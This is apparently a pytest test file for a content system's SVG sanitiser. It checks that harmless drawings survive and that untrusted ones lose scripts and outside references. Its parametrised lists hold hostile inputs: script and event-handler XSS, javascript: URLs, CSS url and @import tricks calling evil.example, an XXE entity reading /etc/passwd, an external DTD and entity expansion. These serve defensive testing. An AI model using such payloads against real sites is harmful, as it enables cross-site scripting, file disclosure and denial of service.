"""Drawings from strangers: what is left of them, and what is refused."""

import pytest

from cms.core import svg
from cms.core.errors import Invalid

NS = 'xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"'


def drawn(inside="", attributes='viewBox="0 0 40 20"'):
    return svg.sanitise(f"<svg {NS} {attributes}>{inside}</svg>".encode()).content.decode()


def test_an_ordinary_drawing_stays_as_it_looks():
    inside = (
        "<title>Two snakes</title>"
        '<defs><linearGradient id="a"><stop offset="0" stop-color="#306998"></stop></linearGradient></defs>'
        "<style>.cls-1{fill:url(#a)}</style>"
        '<path class="cls-1" style="fill: url(#a)" d="M0 0h40v20z"></path>'
        '<use href="#a"></use><text x="1">Python &amp; &lt;friends&gt;</text>'
    )

    assert inside in drawn(inside)


@pytest.mark.parametrize(
    "attack",
    [
        "<script>alert(1)</script>",
        '<script xlink:href="https://evil.example/a.js"/>',
        "<g><script>alert(1)</script></g>",
        '<path onload="alert(1)" d="M0 0"/>',
        '<path ONCLICK="alert(1)" d="M0 0"/>',
        '<a href="javascript:alert(1)"><text>Click</text></a>',
        '<use href="https://evil.example/a.svg#x"/>',
        '<use xlink:href="data:image/svg+xml;base64,PHN2Zz4="/>',
        '<image href="https://evil.example/pixel.png"/>',
        '<image href="data:image/svg+xml,&lt;svg onload=alert(1)&gt;"/>',
        '<foreignObject><p xmlns="http://www.w3.org/1999/xhtml"><img src="x" onerror="alert(1)"/></p></foreignObject>',
        '<iframe xmlns="http://www.w3.org/1999/xhtml" src="https://evil.example"/>',
        '<set attributeName="href" to="javascript:alert(1)"/>',
        '<animate attributeName="href" values="javascript:alert(1)"/>',
        "<style>@import url(https://evil.example/a.css);</style>",
        "<style>path{fill:url('https://evil.example/a')}</style>",
        "<style>path{fill:u\\72l(https://evil.example/a)}</style>",
        "<style>path{fill:url(/**/https://evil.example/a)}</style>",
        '<path style="background:url(//evil.example/a)"/>',
        '<path fill="url(https://evil.example/a#b)"/>',
        '<handler xmlns="http://www.w3.org/2001/xml-events">alert(1)</handler>',
        '<x:script xmlns:x="http://www.w3.org/2000/svg">alert(1)</x:script>',
        '<?xml-stylesheet href="https://evil.example/a.css"?>',
        "<!-- evil.example alert(1) -->",
        "<metadata>evil.example</metadata>",
    ],
)
def test_nothing_is_left_that_runs_or_calls(attack):
    left = drawn(attack).replace("http://www.w3.org", "")

    for trace in ("alert", "script", "evil", "javascript", "onload", "onclick", "http:", "https:", "import"):
        assert trace not in left.lower()


@pytest.mark.parametrize(
    "attack",
    [
        '<!DOCTYPE svg [<!ENTITY a "aaaa"><!ENTITY b "&a;&a;&a;">]><svg xmlns="http://www.w3.org/2000/svg">&b;</svg>',
        '<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg xmlns="http://www.w3.org/2000/svg">&a;</svg>',
        '<!DOCTYPE svg SYSTEM "https://evil.example/a.dtd" [<!ENTITY % a SYSTEM "https://evil.example">%a;]><svg/>',
        "<svg>no namespace</svg>",
        '<html xmlns="http://www.w3.org/1999/xhtml"><svg xmlns="http://www.w3.org/2000/svg"/></html>',
        '<svg xmlns="http://www.w3.org/2000/svg"><g>',
        "not xml at all",
        '<svg xmlns="http://www.w3.org/2000/svg">' + "<g>" * 200 + "</g>" * 200 + "</svg>",
        '<svg xmlns="http://www.w3.org/2000/svg">' + "<g/>" * 60_000 + "</svg>",
        '<svg xmlns="http://www.w3.org/2000/svg"><desc>' + "x" * svg.MAX_BYTES + "</desc></svg>",
    ],
    ids=lambda attack: attack[:60],
)
def test_what_is_hostile_as_a_whole_is_refused_in_words(attack):
    with pytest.raises(Invalid) as refusal:
        svg.sanitise(attack.encode())

    assert refusal.value.message.endswith(".")


def test_the_document_type_that_old_programs_write_is_no_offence():
    head = '<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/Graphics/SVG/1.1/DTD/svg11.dtd">'

    assert b"<svg" in svg.sanitise(f'{head}<svg {NS} viewBox="0 0 1 1"/>'.encode()).content


def test_what_comes_out_goes_in_again_unchanged():
    once = svg.sanitise(f'<svg {NS} width="3" height="2"><path d="M0 0"/></svg>'.encode())

    assert svg.sanitise(once.content) == once


@pytest.mark.parametrize(
    ("attributes", "size"),
    [
        ('width="300" height="200"', (300, 200)),
        ('width="300px" height="20.4px"', (300, 20)),
        ('width="100%" height="100%" viewBox="0 0 64 48"', (64, 48)),
        ('viewBox="0,0,64,48"', (64, 48)),
        ('viewBox="0 0 nan inf"', (512, 512)),
        ("", (512, 512)),
    ],
)
def test_the_size_is_what_the_drawing_claims(attributes, size):
    drawing = svg.sanitise(f"<svg {NS} {attributes}/>".encode())

    assert (drawing.width, drawing.height) == size
